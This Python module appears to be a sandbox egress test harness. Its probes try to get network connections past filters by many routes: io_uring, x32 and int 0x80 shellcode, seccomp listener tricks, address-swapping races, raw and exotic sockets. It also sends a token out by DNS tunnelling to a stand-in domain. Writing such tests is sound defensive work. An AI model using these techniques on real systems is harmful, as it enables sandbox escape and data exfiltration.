"""Connections that a server should not have: to where, and by which way around."""

import contextlib
import ctypes
import os
import select
import socket
import struct
import time
from collections.abc import Callable
from functools import partial
from typing import Any

from .attempt import Facts, any_of, changing, flipping, results_of, which_of
from .kernel import MACHINE, NUMBERS, libc, syscall, text

_WAIT_S = 1.5


def _request(facts: Facts) -> bytes:
    return f"GET /latest/meta-data HTTP/1.0\r\nHost: x\r\nX-Token: {facts['token']}\r\n\r\n".encode()


def talk(connection: socket.socket, facts: Facts) -> str:
    """Send the request, and return the beginning of the answer."""
    connection.settimeout(_WAIT_S)
    connection.sendall(_request(facts))
    return text(connection.recv(1000))


def _family(host: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def _connected(address: Any, facts: Facts, family: int) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(_WAIT_S)
        connection.connect(address)
        return talk(connection, facts)


def tcp(facts: Facts) -> str:
    """Every address that is given, one after the other."""
    return results_of(partial(_connected, (host, facts["port"]), facts, _family(host)) for host in facts["hosts"])


def by_name(facts: Facts) -> str:
    """What the name means to getaddrinfo, several times over: every answer is tried."""

    def once() -> str:
        meant = socket.getaddrinfo(facts["name"], facts["port"], type=socket.SOCK_STREAM)
        return results_of(partial(_connected, address, facts, family) for family, *_, address in meant)

    return results_of([once] * facts.get("times", 1))


def udp(facts: Facts) -> str:
    """By sendto, and by connect and send."""

    def sent(host: str, way: str) -> str:
        with socket.socket(_family(host), socket.SOCK_DGRAM) as connection:
            if way == "sendto":
                connection.sendto(facts["token"].encode(), (host, facts["port"]))
            else:
                connection.connect((host, facts["port"]))
                connection.send(facts["token"].encode())
        return f"sent by {way}"

    return results_of(partial(sent, host, way) for host in facts["hosts"] for way in ("sendto", "connect"))


def udp_by_sendmmsg(facts: Facts) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        data = ctypes.create_string_buffer(facts["token"].encode())
        address = ctypes.create_string_buffer(address_of(facts["hosts"][0], facts["port"]))
        part = (ctypes.c_void_p * 2)(ctypes.addressof(data), len(facts["token"]))
        message = struct.pack("PI4xPNPNi4xI4x", ctypes.addressof(address), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
        return f"{syscall('sendmmsg', connection.fileno(), ctypes.create_string_buffer(message), 1, 0)} sent"


def address_of(host: str, port: int) -> bytes:
    """As connect(2) takes it."""
    if ":" in host:
        return (
            struct.pack("=H", socket.AF_INET6)
            + struct.pack(">HI", port, 0)
            + socket.inet_pton(socket.AF_INET6, host)
            + bytes(4)
        )
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)


def other_kinds(facts: Facts) -> str:
    """Sockets that are neither TCP nor UDP and reach the same hosts."""
    done = []
    host = facts["hosts"][0]
    kinds = {
        "mptcp": (socket.SOCK_STREAM, 262),
        "sctp": (socket.SOCK_STREAM, 132),
        "dccp": (6, 33),
        "udplite": (socket.SOCK_DGRAM, 136),
    }
    for name, (kind, protocol) in kinds.items():
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, kind, protocol) as connection:
            connection.settimeout(_WAIT_S)
            connection.connect((host, facts["port"]))
            connection.send(_request(facts))
            done.append(name)
    return any_of(done, "none of " + ", ".join(kinds))


def raw(facts: Facts) -> str:
    """Packets of its own making, and a look at everybody's."""
    echo = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + facts["token"].encode()

    def sent(kind: int) -> None:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as connection:
            connection.sendto(echo, (facts["hosts"][0], 0))

    acts: dict[str, Callable[[], None]] = {
        "raw": lambda: sent(socket.SOCK_RAW),
        "ping": lambda: sent(socket.SOCK_DGRAM),
        "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close(),
    }
    return which_of(acts.items(), "no raw, ping or packet socket")


def families(facts: Facts) -> str:
    """Families of sockets with their own ways out, or with a history of holes in the kernel."""
    done = []
    for name, family, kind in (
        ("vsock", 40, socket.SOCK_STREAM),
        ("alg", 38, 5),
        ("xdp", 44, socket.SOCK_RAW),
        ("kcm", 41, socket.SOCK_DGRAM),
        ("tipc", 30, 5),
        ("key", 15, socket.SOCK_RAW),
        ("can", 29, socket.SOCK_RAW),
        ("netlink audit", 16, socket.SOCK_RAW),
        ("packet", 17, socket.SOCK_RAW),
    ):
        protocol = 9 if name == "netlink audit" else 2 if name == "key" else 0
        with contextlib.suppress(OSError), socket.socket(family, kind, protocol):
            done.append(name)
    return any_of(done, "none")


def fast_open(facts: Facts) -> str:
    """sendto and sendmsg with MSG_FASTOPEN, and TCP_FASTOPEN_CONNECT: connections without connect."""
    done = []
    address = (facts["hosts"][0], facts["port"])
    for way in ("sendto", "sendmsg", "option"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
            connection.settimeout(_WAIT_S)
            if way == "sendto":
                connection.sendto(_request(facts), 0x2000_0000, address)
            elif way == "sendmsg":
                connection.sendmsg([_request(facts)], [], 0x2000_0000, address)
            else:
                connection.setsockopt(socket.IPPROTO_TCP, 30, 1)
                connection.connect(address)
                connection.send(_request(facts))
            connection.recv(100)
            done.append(way)
    return any_of(done, "no way of three")


def ring(facts: Facts) -> str:
    """io_uring makes system calls that no filter sees: IORING_OP_SOCKET or CONNECT on a ring."""
    import mmap

    params = ctypes.create_string_buffer(120)
    ring_fd = syscall("io_uring_setup", 4, params)
    words = struct.unpack("10I", params.raw[:40])
    sq_off = struct.unpack("10I", params.raw[40:80])
    cq_off = struct.unpack("10I", params.raw[80:120])
    entries, cq_entries = words[0], words[1]
    sq = mmap.mmap(ring_fd, sq_off[6] + entries * 4, offset=0)
    sqes = mmap.mmap(ring_fd, entries * 64, offset=0x1000_0000)
    cq = mmap.mmap(ring_fd, cq_off[5] + cq_entries * 16, offset=0x800_0000)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        address = ctypes.create_string_buffer(address_of(facts["hosts"][0], facts["port"]), 16)
        # struct io_uring_sqe: opcode 16 is CONNECT; `off` holds the address's length.
        sqes[:64] = struct.pack(
            "BBHiQQIIQ", 16, 0, 0, connection.fileno(), 16, ctypes.addressof(address), 0, 0, 7
        ) + bytes(24)
        tail = struct.unpack_from("I", sq, sq_off[1])[0]
        struct.pack_into("I", sq, sq_off[6] + (tail & (entries - 1)) * 4, 0)
        struct.pack_into("I", sq, sq_off[1], tail + 1)
        syscall("io_uring_enter", ring_fd, 1, 1, 1, 0, 0)
        result = struct.unpack_from("Qi", cq, cq_off[5])[1]
        if result < 0:
            raise OSError(-result, "io_uring: " + os.strerror(-result))
        return talk(connection, facts)


def changed_address(facts: Facts) -> str:
    """A second thread changes the address between the look and the use, many times a second."""
    good, bad = address_of(facts["hosts"][0], facts["port"]), address_of(facts["hosts"][1], facts["port"])
    address = ctypes.create_string_buffer(good, 16)
    until = time.monotonic() + float(facts.get("seconds", 2.0))
    tried = 0
    with changing(address, bad, good):
        while time.monotonic() < until:
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
                connection.setblocking(False)
                libc.connect(connection.fileno(), address, 16)
                tried += 1
    return f"tried {tried} times"


def changed_socket(facts: Facts) -> str:
    """A second thread puts another socket in the place of the number while its connection is made."""
    number = os.dup(0)
    stream, unix = socket.socket(), socket.socket(socket.AF_UNIX)
    address = ctypes.create_string_buffer(address_of(facts["hosts"][0], facts["port"]), 16)
    until = time.monotonic() + 1.0
    tried = 0
    with flipping(lambda: [os.dup2(each.fileno(), number) for each in (stream, unix)]):
        while time.monotonic() < until:
            libc.connect(number, address, 16)
            tried += 1
    return f"tried {tried} times"


def reconnected(facts: Facts) -> str:
    """One socket: connected to a public host, let go with AF_UNSPEC, connected to another."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(_WAIT_S)
        with contextlib.suppress(OSError):
            connection.connect((facts["hosts"][0], facts["port"]))
            libc.connect(connection.fileno(), ctypes.create_string_buffer(bytes(16), 16), 16)
        connection.connect((facts["hosts"][1], facts["port"]))
        return talk(connection, facts)


def half_length(facts: Facts) -> str:
    """Address lengths and families that do not fit each other."""
    found = []
    address = address_of(facts["hosts"][0], facts["port"])
    for family in (socket.AF_INET, socket.AF_INET6):
        for length in (8, 16, 24, 28, 128):
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.setblocking(False)
                buffer = ctypes.create_string_buffer(address + bytes(128), 144)
                if libc.connect(connection.fileno(), buffer, length) == 0 or ctypes.get_errno() == 115:
                    if select.select([], [connection], [], _WAIT_S)[1] and not connection.getsockopt(1, 4):
                        found.append(f"family {family} length {length}")
    return any_of(found, "none")


def other_table(facts: Facts) -> str:
    """The system calls of another architecture: int 0x80 and x32 have numbers that a filter may not know."""
    if MACHINE != "x86_64":
        raise NotImplementedError("only x86_64 has other tables")
    import mmap

    done = []
    address = address_of(facts["hosts"][0], facts["port"])
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        buffer = ctypes.create_string_buffer(address, 16)
        if libc.syscall(NUMBERS["connect"] | 0x4000_0000, connection.fileno(), buffer, 16) == 0:
            done.append("x32")
    # 32-bit calls take 32-bit addresses: MAP_32BIT.
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, 4096, 7, 0x22 | 0x40, -1, 0)
    if page in (None, ctypes.c_void_p(-1).value):
        raise PermissionError("no page that can be executed" + (f", but {done}" if done else ""))
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        ctypes.memmove(page + 512, address, 16)
        code = b"\x53\xb8" + struct.pack("<I", 362) + b"\xbb" + struct.pack("<I", connection.fileno())
        code += b"\xb9" + struct.pack("<I", page + 512) + b"\xba" + struct.pack("<I", 16) + b"\xcd\x80\x5b\xc3"
        ctypes.memmove(page, code, len(code))
        answer = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
        if answer == 0:
            done.append("int 0x80")
            talk(connection, facts)
    del mmap
    return any_of(done, f"x32 and int 0x80: {answer}")


def own_filter(facts: Facts) -> str:
    """A filter of its own with a listener, whose answer is `continue`: the newest listener is the one that is asked."""
    program = struct.pack("HBBI", 0x20, 0, 0, 0) + struct.pack("HBBI", 0x15, 0, 1, NUMBERS["connect"])
    program += struct.pack("HBBI", 6, 0, 0, 0x7FC0_0000) + struct.pack("HBBI", 6, 0, 0, 0x7FFF_0000)
    held = ctypes.create_string_buffer(program, len(program))
    header = struct.pack("H6xP", 4, ctypes.addressof(held))
    libc.prctl(38, 1, 0, 0, 0)
    ours, theirs = socket.socketpair()
    if os.fork() == 0:
        try:
            listener = syscall("seccomp", 1, 8, ctypes.create_string_buffer(header, len(header)))
            socket.send_fds(theirs, [b"x"], [listener])
            os._exit(3 if _tries(facts) else 0)
        except OSError as error:
            theirs.send(str(error).encode())
        finally:
            os._exit(1)
    ours.settimeout(3)
    said, descriptors, _, _ = socket.recv_fds(ours, 100, 1)
    if not descriptors:
        raise PermissionError(text(said))
    import fcntl

    notification = bytearray(80)
    fcntl.ioctl(descriptors[0], 0xC050_2100, notification)
    answer = bytearray(notification[:8] + struct.pack("qiI", 0, 0, 1))
    fcntl.ioctl(descriptors[0], 0xC018_2101, answer)
    return "answered" if os.waitstatus_to_exitcode(os.wait()[1]) == 3 else "no"


def _tries(facts: Facts) -> bool:
    with contextlib.suppress(OSError):
        return bool(tcp(facts))
    return False


def through_child(facts: Facts) -> str:
    """By a process that has lost everybody above it."""
    reads, writes = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            got = b""
            with contextlib.suppress(OSError):
                got = tcp(facts).encode()
            os.write(writes, got or b"-")
        os._exit(0)
    os.wait()
    return text(os.read(reads, 1000))


def tunnel(facts: Facts) -> str:
    """A secret in a name, and the answer in another: whoever owns the zone reads and writes."""
    word = facts["token"].replace("_", "-")
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{word}.tunnel.example.com", 80)
    return "asked"


def tunnel_back(facts: Facts) -> str:
    """TXT records by a connection to a name server, as a tunnel does for its way back."""
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in f"{facts['token']}.tunnel.example.com".split("."):
        query += bytes([len(label)]) + label.encode()
    query += b"\x00\x00\x10\x00\x01"
    found = []
    for host in facts["hosts"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.settimeout(_WAIT_S)
            connection.sendto(query, (host, 53))
            found.append(text(connection.recv(1000)))
        with contextlib.suppress(OSError), socket.create_connection((host, 53), _WAIT_S) as stream:
            stream.sendall(struct.pack(">H", len(query)) + query)
            found.append(text(stream.recv(1000)))
    return any_of(found, "no name server answered", "\n")


def listen(facts: Facts) -> str:
    """On all addresses, for others to connect to; the harness tries."""
    done = []
    for family, host in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::"), (socket.AF_INET, "127.0.0.1")):
        with contextlib.suppress(OSError):
            listener = socket.socket(family, socket.SOCK_STREAM)
            if family == socket.AF_INET6:
                listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind((host, facts["port"]))
            listener.listen()
            listener.settimeout(1.5)
            done.append(listener)
    # Without bind the kernel takes a port by itself.
    with contextlib.suppress(OSError):
        unbound = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        unbound.listen()
        done.append(unbound)
    if not done:
        raise PermissionError("no address can be listened on")
    ready = select.select(done, [], [], 1.5)[0]
    for listener in ready:
        connection, _ = listener.accept()
        connection.sendall(facts["token"].encode())
        connection.close()
    return f"listens: {', '.join(str(each.getsockname()) for each in done)}"


def same_port(facts: Facts) -> str:
    """SO_REUSEPORT on the gateway's own port: the kernel would share its connections out."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    listener.bind(("127.0.0.1", facts["port"]))
    listener.listen()
    return "listens"
